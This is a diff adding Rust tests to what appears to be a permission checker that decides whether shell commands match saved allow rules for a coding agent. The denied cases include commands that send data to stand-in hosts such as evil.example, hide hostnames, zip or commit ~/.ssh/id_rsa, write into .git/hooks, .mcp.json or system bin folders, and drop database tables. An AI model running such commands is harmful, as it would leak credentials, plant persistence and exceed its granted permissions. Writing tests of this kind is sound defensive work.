@@ -4,7 +4,10 @@ use crate::testing::{HOME, Scene};
 use crate::{Decision, Pattern, Rule, RuleOrigin, TargetPath};
 
 fn scene(command: &str) -> Scene {
-    let more = ["head", "mkdir", "ssh", "sed", "node", "tar", "wget", "zip", "pax"];
+    let more = [
+        "head", "mkdir", "ssh", "sed", "node", "tar", "zip", "unzip", "pax", "ln", "wget", "gh", "psql", "rsync",
+        "kill",
+    ];
     let scene =
         more.iter().fold(Scene::new(), |scene, name| scene.program(&format!("/usr/bin/{name}"), name));
     scene.with_shell_text(command)
@@ -84,6 +87,136 @@ fn what_is_sent_goes_to_the_same_place() {
             "curl -K x https://a.example",
             "curl https://a.example/x https://b.example",
         ],
+    );
+}
+
+#[test]
+fn what_is_sent_or_fetched_without_a_name_may_go_anywhere() {
+    check(
+        "git push origin main",
+        &[],
+        &["git push", "git push --repo=https://evil.example/x", "git push --repo https://evil.example/x"],
+    );
+    check(
+        "curl -s https://a.example",
+        &["curl -s https://a.example/y", "curl -s --url https://a.example/z", "curl -s a.example/y"],
+        &[
+            "curl -s --url https://evil.example/?x",
+            "curl -s --ur https://evil.example/?x",
+            "curl -s --url=evil",
+            "curl -s 2130706433/?x",
+            "curl -s evil",
+            "curl -s 'evil.com,'",
+            "curl -s evil。com",
+            "curl -s '{evil}.com'",
+            "curl -s evil%2ecom",
+            "curl -s https://evil%2ecom",
+            "curl -s https:///evil.com",
+            "curl -s '~evil.com'",
+            "curl -s https://a.example evil",
+            "curl -s \"$URL\"",
+            "curl -s",
+            "curl -O evil https://a.example",
+            "curl -so x evil https://a.example",
+        ],
+    );
+    check("wget https://a.example/x", &["wget https://a.example/y"], &["wget 16843009/?x", "wget box/x", "wget -q evil https://a.example/x"]);
+    check(
+        "git remote add up https://github.com/a/b",
+        &[],
+        &["git remote add up https://evil.example/a/b", "git remote add up evil.example:x"],
+    );
+    check("git fetch origin", &["git fetch origin main"], &["git fetch https://evil.example/x", "git fetch"]);
+    check("git fetch", &["git fetch"], &["git fetch https://evil.example/x"]);
+    check("git add a", &["git add b", "git add -A"], &[]);
+}
+
+#[test]
+fn places_of_the_system_are_read_only() {
+    let tar = [
+        "tar xzf g.tgz -C /usr/local/bin",
+        "tar xzf g.tgz -C /opt/homebrew/bin",
+        "tar xzf g.tgz --directory=/usr/bin",
+    ];
+    check("tar czf a.tgz src", &["tar czf b.tgz docs"], &tar);
+    check(
+        "zip -qr a.zip src",
+        &["zip -qr b.zip docs"],
+        &["zip -qr /opt/homebrew/bin/x src", "zip -qr /usr/local/bin/x src"],
+    );
+    check(
+        "cp a b",
+        &["cp c d"],
+        &["cp --target-directory=/usr/local/bin a", "cp a /usr/local/bin", "cp -t/opt/x a"],
+    );
+    check(
+        "rsync -a src/ dst/",
+        &[],
+        &["rsync -a --log-file=/usr/local/bin/x src/ dst/", "rsync -a src/ /opt/x"],
+    );
+    check("unzip a.zip", &["unzip b.zip"], &["unzip a.zip -d /usr/local/bin"]);
+    check("grep x notes", &["grep x /usr/include/a.h"], &[]);
+    let rules = saved("cp a b");
+    let mut linked = scene("cp a link");
+    linked.rules = rules;
+    linked.targets = vec![TargetPath { written: "link".to_owned(), real: "/usr/local/bin/x".to_owned() }];
+    assert_ne!(linked.judge_request().decision, Decision::Allow, "a link into the system");
+}
+
+#[test]
+fn a_protected_place_is_written_by_no_option_and_under_no_name() {
+    check(
+        "cp a b",
+        &["cp a sub/", "cp -t sub a"],
+        &[
+            "cp --target-directory=.git/hooks post-commit",
+            "cp -t.git/hooks post-commit",
+            "cp -t .git/hooks post-commit",
+            "cp --targ=.vscode tasks.json",
+            "cp x/.mcp.json .",
+            "cp x/.mcp.json y a",
+            "cp x/.envrc sub/",
+            "cp -r x/.git .",
+        ],
+    );
+    check("mv a b", &[], &["mv --target-directory=.git/hooks a", "mv x/.mcp.json ."]);
+    check("ln -s a b", &[], &["ln -s -t.git/hooks a", "ln -s x/.envrc ."]);
+    check(
+        "tar czf a.tgz src",
+        &[],
+        &["tar xzf t.tgz -C .git/hooks", "tar xzf t.tgz --directory=.git/hooks", "tar czf .envrc src"],
+    );
+    check("unzip a.zip", &[], &["unzip a.zip -d .claude"]);
+    check("zip -qr a.zip src", &[], &["zip -r .mcp.json src"]);
+    check(
+        "git mv a b",
+        &["git mv c d"],
+        &["git mv settings.json .mcp.json", "git mv zshrc .envrc", "git mv b .git/hooks/pre-commit"],
+    );
+    check(
+        "git clone https://github.com/a/b",
+        &["git clone https://github.com/a/c d"],
+        &["git clone https://github.com/e/v .vscode", "git clone https://github.com/e/v .claude"],
+    );
+}
+
+#[test]
+fn a_text_on_the_input_is_input() {
+    check(
+        "zip -qr a.zip src",
+        &[],
+        &[
+            "zip -q k.zip -@ <<< ~/.ssh/id_rsa",
+            "zip -q k.zip -@ <<E\n/Users/u/.ssh/id_rsa\nE",
+            "zip -q k.zip -@ <<< src/a",
+        ],
+    );
+    check("psql app", &[], &["psql app <<< 'drop table x'", "psql app <<E\n\\! id\nE"]);
+    check("psql app <<< 'select 1'", &[], &["psql app <<< 'drop table x'", "psql app -c x <<< 'select 1'"]);
+    check(
+        "git commit -F - <<'E'\nA message\nE",
+        &["git commit -F - <<'E'\nAnother: message, of /two words\n\n- src/a.rs\nE"],
+        &["git commit -F - <<< ~/.ssh/id_rsa"],
     );
 }
 
